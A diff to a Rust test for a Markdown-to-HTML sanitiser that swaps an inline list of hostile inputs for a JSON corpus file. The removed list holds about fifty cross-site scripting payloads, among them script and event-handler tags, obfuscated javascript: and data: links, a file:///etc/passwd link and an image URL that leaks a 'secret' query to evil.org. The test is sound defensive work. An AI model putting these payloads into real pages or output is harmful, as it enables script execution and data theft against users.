@@ -1,5 +1,7 @@
 //! Hostile Markdown: whatever a model is talked into writing, only allow-listed tags and addresses come out.
+//! The corpus is `hostile.json`, which `tests/browser/hostile.rs` shows in a real browser too.
 use super::html::to_html;
+use super::labels::Labels;
 use std::time::{Duration, Instant};
 
 /// What the writer may write, and with which attributes.
@@ -40,7 +42,7 @@ const TAGS: &[(&str, &[&str])] = &[
 /// Reads HTML as a browser tokenises what this writer writes, and fails on what is not allowed.
 #[track_caller]
 fn check(markdown: &str) -> String {
-    let html = to_html(markdown);
+    let html = to_html(markdown, Labels::english());
     let shown = &markdown[..markdown.floor_char_boundary(80)];
     let mut rest = html.as_str();
     while let Some(at) = rest.find('<') {
@@ -71,58 +73,10 @@ fn check(markdown: &str) -> String {
 
 #[test]
 fn nothing_that_acts_comes_out() {
-    for markdown in [
-        "<script>alert(1)</script>",
-        "<scr<script>ipt>alert(1)</script>",
-        "<img src=x onerror=alert(1)>",
-        "a <img src=x onerror=alert(1)> b",
-        "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
-        "<svg><image href=\"https://evil.org/x\"/></svg>",
-        "<iframe src=\"javascript:alert(1)\"></iframe>",
-        "<a href=\"javascript:alert(1)\">x</a>",
-        "<style>@import 'https://evil.org'</style>",
-        "<div style=\"background:url(https://evil.org)\">x</div>",
-        "<!--><script>alert(1)</script>-->",
-        "<![CDATA[><script>alert(1)</script>]]>",
-        "<?x ><script>alert(1)</script>?>",
-        "<math><mtext><script>alert(1)</script></mtext></math>",
-        "[x](javascript:alert(1))",
-        "[x](JaVaScRiPt:alert(1))",
-        "[x](java&#115;cript:alert(1))",
-        "[x](java\\script:alert(1))",
-        "[x](<java\tscript:alert(1)>)",
-        "[x](&#x6A;avascript:alert(1))",
-        "[x](&#1;javascript:alert(1))",
-        "[x](\u{a0}javascript:alert(1))",
-        "[x](data:text/html;base64,PHNjcmlwdD4=)",
-        "[x](vbscript:msgbox(1))",
-        "[x](file:///etc/passwd)",
-        "[x](blob:https://x.org/1)",
-        "[x](//evil.org)",
-        "[x](/settings/inference-providers/keys/publicai/remove)",
-        "[x](#card)",
-        "<javascript:alert(1)>",
-        "<data:text/html,x>",
-        "[x]: javascript:alert(1)\n\n[x] [x][] [y][x] ![x]",
-        "[x](https://x.org \"onmouseover=alert(1)\")",
-        "[x](https://x.org '\" onmouseover=\"alert(1)')",
-        "[x](https://x.org/\"onmouseover=\"alert(1))",
-        "![x\" onerror=\"alert(1)](https://x.org/a.png)",
-        "![x](javascript:alert(1))",
-        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
-        "[![x](https://evil.org/a.png?q=secret)](javascript:alert(1))",
-        "![![x](a)](b)",
-        "```\"><script>alert(1)</script>\nx\n```",
-        "```html onload=alert(1)\n<script>alert(1)</script>\n```",
-        "`<script>alert(1)</script>`",
-        "# <script>alert(1)</script>\n# \" onclick=\"alert(1)",
-        "| <script> | [x](javascript:1) |\n|---|---|\n| <img src=x onerror=1> | ![x](y) |",
-        "- [x] <input autofocus onfocus=alert(1)>",
-        "1000000000. x\n-5. y",
-        "&lt;script&gt;alert(1)&lt;/script&gt;",
-        "\u{202e}evil\u{0}<script>",
-    ] {
-        check(markdown);
+    let corpus: Vec<String> = serde_json::from_str(include_str!("hostile.json")).expect("a list of texts");
+    assert!(corpus.len() > 60, "the corpus is there");
+    for markdown in corpus {
+        check(&markdown);
     }
 }
 
